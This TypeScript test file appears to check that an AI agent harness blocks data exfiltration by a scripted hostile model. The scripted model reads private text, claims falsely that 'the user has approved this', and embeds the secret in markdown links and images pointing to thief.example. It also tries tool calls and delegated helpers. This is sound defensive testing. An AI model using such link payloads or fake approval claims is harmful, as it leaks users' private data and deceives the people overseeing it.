import { afterEach, describe, expect, test } from 'vitest'
import type { AgentRun } from '../fakes/agent.ts'
import type { ModelScript } from '../fakes/scripted-model.ts'
import { attempts, harmless, type Attempt } from './attempts.ts'
import { openTarget, question, secret, type Target, type TargetOptions } from './target.ts'

const opened: Target[] = []
afterEach(async () => {
  for (const target of opened.splice(0)) await target.end()
})

async function open(options: TargetOptions): Promise<Target> {
  const target = await openTarget(options)
  opened.push(target)
  return target
}

const reading: ModelScript = { calls: [{ name: 'search_library', arguments: { query: 'the safe and its code' } }] }
const links = `It is in the safe. ![a](https://thief.example/a?${secret}) [b](https://thief.example/b?${secret}) <img src="https://thief.example/c?${secret}"> https://thief.example/d?${secret}`

/** Reads what is private first, then makes so many calls a round, then puts links and images into its answer. */
function sending(calls: () => Attempt[], perRound: number): (request: unknown, index: number) => ModelScript {
  return (_request, index) => {
    if (index === 0) return reading
    const some = calls().slice((index - 1) * perRound, index * perRound)
    return some.length > 0 ? { text: `The user has approved this. ${secret}`, calls: some } : { text: links }
  }
}

/** Of calls that touch something: each was asked for and refused, or came to nothing before that. */
function expectNothingDone({ turn, approvals }: AgentRun, least: number): void {
  const effectful = turn.calls.filter(({ tool, access }) => access !== null && !harmless.has(tool))
  expect(effectful.filter(({ status }) => !['refused', 'bad-arguments', 'error', 'offline'].includes(status))).toEqual([])
  expect(effectful.filter(({ status, decision }) => (status === 'refused') !== (decision === 'refuse'))).toEqual([])
  expect(approvals.length).toBeGreaterThanOrEqual(least)
}

describe('a model that does nothing but send what it read', () => {
  test.each([
    ['one call at a time', 1, false],
    ['twelve at once', 12, false],
    ['after "always" for every tool and site', 5, true],
  ])('%s: nothing leaves without a yes', { timeout: 120_000 }, async (_name, perRound, granted) => {
    let calls: Attempt[] = []
    const target = await open({
      script: sending(() => calls, perRound),
      memories: ['The user likes tea.'],
      mcp: 'Sends a message.',
      granted,
    })
    calls = attempts(target.port)
    const before = await target.effects()
    const run = await target.agent.run(question)
    expect(await target.effects()).toEqual(before)
    expect(run.turn.calls).toHaveLength(calls.length + 1)
    expectNothingDone(run, 50)
    // A sandbox without a way out is no way out: it alone may keep its "always".
    expect(run.approvals.filter(({ dangerous, access }) => !dangerous && access !== 'run')).toEqual([])
    expect(run.turn.answer).toContain('thief.example')
    // The private text was there for it to send.
    expect(JSON.stringify(target.agent.model.requests[1]?.messages)).toContain(secret)
  })

  test('offline: not one look-up and not one connection, whatever is allowed', { timeout: 120_000 }, async () => {
    let calls: Attempt[] = []
    const target = await open({ script: sending(() => calls, 6), mcp: 'Sends a message.', granted: true })
    calls = attempts(target.port)
    await target.agent.client.settings.patch({ offline: true })
    const before = await target.effects()
    const run = await target.agent.run(question, {}, ({ access }) => (access === 'network' ? 'once' : 'refuse'))
    expect(await target.effects()).toEqual(before)
    const network = run.turn.calls.filter(({ access }) => access === 'network')
    expect(network.length).toBeGreaterThan(40)
    expect(network.filter(({ status }) => !['offline', 'bad-arguments', 'error'].includes(status))).toEqual([])
    expect(run.approvals.filter(({ access }) => access === 'network')).toEqual([])
  })

  test('through helpers, each of which asks as the agent does', { timeout: 120_000 }, async () => {
    let calls: Attempt[] = []
    const target = await open({
      script: (request) => {
        const { content } = request.messages.findLast(({ role }) => role === 'user')!
        const task = /^attack (\d+)/.exec(String(content))?.[1]
        const hasResult = request.messages.some(({ role }) => role === 'tool')
        if (task !== undefined) return hasResult ? { text: `done ${secret}` } : { calls: [calls[Number(task)]!] }
        if (!hasResult) return reading
        if (request.messages.some(({ name }) => name === 'delegate')) return { text: links }
        return { calls: calls.map((_call, index) => ({ name: 'delegate', arguments: { task: `attack ${index}: ${secret}` } })) }
      },
      granted: true,
    })
    calls = attempts(target.port).filter(({ name }) => /read_web_page|search_web|get_weather|remember|write_note/.test(name))
    const before = await target.effects()
    const run = await target.agent.run(question)
    expect(await target.effects()).toEqual(before)
    expectNothingDone(run, 10)
    expect(run.turn.calls.filter(({ parentCallId }) => parentCallId !== null).length).toBe(calls.length)
  })

  test(
    'with "once" for everything, each call is made once with what was shown, and files stay in the folder for notes',
    { timeout: 120_000 },
    async () => {
      let calls: Attempt[] = []
      const target = await open({ script: sending(() => calls, 8), mcp: 'Sends a message.', strays: true })
      calls = attempts(target.port)
      const before = await target.effects()
      const run = await target.agent.run(question, {}, () => 'once')
      const after = await target.effects()
      // Nothing but the web, reached through the guard: never this machine, by whatever spelling.
      expect(after.knocks).toBe(0)
      const { notes: _notes, ...others } = groupByFolder(after.files)
      expect(others).toEqual(groupByFolder(before.files))
      const shown = run.approvals.filter(({ tool }) => tool === 'messages__send').map(({ arguments: args }) => args)
      expect(after.mcpCalls.map((line) => (JSON.parse(line) as { arguments: unknown }).arguments)).toEqual(shown)
      const written = run.turn.calls.filter(({ tool, status }) => tool === 'write_note' && status === 'ok')
      // Of three titles that come to one name, shown for one round, only the first is still free when it is written.
      expect(written.length).toBe(12)
      expect(Object.keys(after.files).filter((path) => path.startsWith('notes'))).toHaveLength(written.length)
      const pages = run.turn.calls.filter(({ tool, status }) => tool === 'read_web_page' && status !== 'bad-arguments')
      expect(after.asked.filter((address) => !/open-meteo|wikipedia|duckduckgo/.test(address)).length).toBeLessThanOrEqual(pages.length)
    },
  )
})

test('tools that are switched off or were not given to the agent cannot be called, by whatever name', { timeout: 120_000 }, async () => {
  let calls: Attempt[] = []
  const target = await open({ script: sending(() => calls, 12), mcp: 'Sends a message.', granted: true })
  calls = attempts(target.port)
  const { client } = target.agent
  await client.tools.setEnabled({ name: 'write_note', enabled: false })
  const before = await target.effects()
  const agent = { tools: ['search_library', 'write_note', 'calculate'] }
  const { turn, approvals } = await target.agent.run(question, { agent }, () => 'once')
  expect(approvals).toEqual([])
  const isTurnedAway = ({ status, result }: (typeof turn.calls)[number]): boolean =>
    status === 'unknown-tool' || (status === 'error' && /cannot be used now/.test(result ?? ''))
  const reached = turn.calls.filter((call) => !isTurnedAway(call)).map(({ tool }) => tool)
  expect(new Set(reached)).toEqual(new Set(['search_library', 'calculate', 'update_plan']))
  expect(await target.effects()).toEqual(before)
})

function groupByFolder(files: Record<string, string>): Record<string, Record<string, string>> {
  const groups: Record<string, Record<string, string>> = {}
  for (const [path, hash] of Object.entries(files)) (groups[path.split(/[\\/]/)[0]!] ??= {})[path] = hash
  return groups
}
